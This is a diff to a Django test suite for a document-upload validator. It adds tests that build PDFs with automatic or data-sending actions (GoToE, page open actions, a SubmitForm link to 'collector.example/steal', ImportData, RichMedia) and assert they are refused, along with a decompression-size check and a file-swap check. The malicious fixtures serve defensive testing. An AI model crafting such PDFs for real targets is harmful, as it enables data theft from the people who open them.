@@ -16,7 +16,7 @@ from django.core.files.uploadedfile import SimpleUploadedFile
 from django.db import DatabaseError, connection, transaction
 from django.urls import reverse
 from pypdf import PdfWriter
-from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject
+from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject
 
 from governance import append_only
 from governance.choices import AccessKind, LedgerAction, Role
@@ -55,6 +55,39 @@ def pdf_bytes(*, javascript: str = "", launch: bool = False) -> bytes:
             {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("calc.exe")}
         )
         writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
+    buffer = io.BytesIO()
+    writer.write(buffer)
+    return buffer.getvalue()
+
+
+def _action(kind: str, **entries: object) -> DictionaryObject:
+    return DictionaryObject(
+        {NameObject("/S"): NameObject(kind), **{NameObject(f"/{k}"): v for k, v in entries.items()}}
+    )
+
+
+def _annotation(subtype: str, **entries: object) -> DictionaryObject:
+    rect = ArrayObject([NumberObject(10), NumberObject(10), NumberObject(90), NumberObject(30)])
+    return DictionaryObject(
+        {
+            NameObject("/Type"): NameObject("/Annot"),
+            NameObject("/Subtype"): NameObject(subtype),
+            NameObject("/Rect"): rect,
+            **{NameObject(f"/{k}"): v for k, v in entries.items()},
+        }
+    )
+
+
+def pdf_with(*, open_action: DictionaryObject | None = None, page: dict | None = None, embedded: bool = False) -> bytes:
+    """A one-page PDF with an open action, extra page entries and/or an embedded file, as a generator writes them."""
+    writer = PdfWriter()
+    writer.add_blank_page(width=200, height=200)
+    if open_action is not None:
+        writer._root_object[NameObject("/OpenAction")] = writer._add_object(open_action)
+    for key, value in (page or {}).items():
+        writer.pages[0][NameObject(key)] = value
+    if embedded:
+        writer.add_attachment("source.csv", b"name,value\nrows,3\n")
     buffer = io.BytesIO()
     writer.write(buffer)
     return buffer.getvalue()
@@ -212,6 +245,52 @@ def test_a_file_that_is_not_what_its_name_says_or_not_an_allowed_type_is_refused
     assert stored_files() == []
 
 
+_GO_TO_EMBEDDED = _action("/GoToE", NewWindow=NameObject("/false"), T=DictionaryObject())
+_SUBMIT = _action("/SubmitForm", F=TextStringObject("https://collector.example/steal"))
+
+
+@pytest.mark.parametrize(
+    ("data", "marker"),
+    [
+        (pdf_with(open_action=_GO_TO_EMBEDDED, embedded=True), "GoToE"),
+        (pdf_with(page={"/AA": DictionaryObject({NameObject("/O"): _action("/GoTo")})}), "AA"),
+        (pdf_with(page={"/Annots": ArrayObject([_annotation("/Link", A=_SUBMIT)])}), "SubmitForm"),
+        (pdf_with(open_action=_action("/ImportData", F=TextStringObject("data.fdf"))), "ImportData"),
+        (pdf_with(page={"/Annots": ArrayObject([_annotation("/RichMedia")])}), "RichMedia"),
+    ],
+)
+def test_a_pdf_with_automatic_or_data_sending_actions_is_refused(people, version, data: bytes, marker: str) -> None:
+    with pytest.raises(ValidationError, match=rf"active content \({marker}\)"):
+        upload(people["steward"], version, data, "dpia.pdf")
+
+    assert stored_files() == []
+
+
+def test_a_pdf_with_links_a_go_to_page_open_action_and_embedded_files_is_accepted(people, version) -> None:
+    link = _annotation("/Link", A=_action("/URI", URI=TextStringObject("https://example.org/policy")))
+    first_page = _action("/GoTo", D=ArrayObject([NumberObject(0), NameObject("/Fit")]))
+    data = pdf_with(open_action=first_page, page={"/Annots": ArrayObject([link])}, embedded=True)
+
+    document = upload(people["steward"], version, data, "evidence-pack.pdf")
+
+    assert document.sha256 == hashlib.sha256(data).hexdigest()
+
+
+def test_an_office_file_with_an_oversized_content_types_part_is_refused_without_reading_it_all(people, version) -> None:
+    padded = f'<?xml version="1.0"?><Types><Override PartName="/word/document.xml" ContentType="{_DOCX_MAIN}"/>'
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("[Content_Types].xml", padded + " " * (2 * 1024 * 1024) + "</Types>")
+        archive.writestr("_rels/.rels", "<Relationships/>")
+        archive.writestr("word/document.xml", "<document/>")
+    data = buffer.getvalue()
+    assert len(data) < 64 * 1024  # small on the wire, large once unpacked
+
+    with pytest.raises(ValidationError, match="oversized content-types part"):
+        upload(people["steward"], version, data, "dpia.docx")
+    assert stored_files() == []
+
+
 def test_a_file_over_the_size_limit_is_refused(people, version, settings) -> None:
     settings.DOCUMENT_MAX_BYTES = 1024
 
@@ -237,6 +316,15 @@ def test_an_oversized_upload_through_the_admin_is_cut_off_and_explained(client, 
     assert "larger than 4.0 KiB" in response.content.decode()
     assert not Document.objects.exists()
     assert stored_files() == []
+
+
+@pytest.mark.parametrize("object_id", ["not-a-number", "1.5", "99999999999999999999999"])
+def test_the_upload_page_of_a_record_id_that_cannot_exist_is_404(client, people, object_id: str) -> None:
+    login_verified(client, people["steward"])
+    url = reverse("admin:governance_document_upload", args=["lineage", "datasetversion", object_id])
+
+    assert client.get(url).status_code == 404
+    assert client.post(url, {"kind": DocumentKind.DPIA}).status_code == 404
 
 
 def test_a_role_that_does_not_own_the_record_cannot_attach_and_the_attempt_is_recorded(
@@ -433,6 +521,35 @@ def test_a_stored_file_changed_on_disk_is_not_handed_out(people, version) -> Non
     with pytest.raises(ActionDenied, match="no longer matches"):
         document_download(document=document, user=people["auditor"])
     assert LedgerEntry.objects.filter(action=LedgerAction.DENIED).exists()
+
+
+def test_the_bytes_handed_out_are_the_bytes_that_were_checked(people, version, monkeypatch) -> None:
+    """The stored file is replaced the moment it has been opened once: what goes out must still be what was
+    hashed, not whatever a second opening would find."""
+    data = pdf_bytes()
+    document = upload(people["steward"], version, data, "dpia.pdf")
+    storage = document_storage()
+    path = Path(storage.path(document.storage_name))
+    path.chmod(0o600)
+    opened = []
+    open_stored = storage.open
+
+    def open_then_swap(name: str, mode: str = "rb"):
+        handle = open_stored(name, mode)
+        if opened:
+            handle.close()
+            path.write_bytes(data + b"% swapped after the check")
+            handle = open_stored(name, mode)
+        opened.append(name)
+        return handle
+
+    monkeypatch.setattr(storage, "open", open_then_swap)
+
+    download = document_download(document=document, user=people["auditor"])
+    path.write_bytes(data + b"% swapped after the check")
+
+    assert download.handle.read() == data
+    download.handle.close()
 
 
 # --- The pages ----------------------------------------------------------------------------------------------
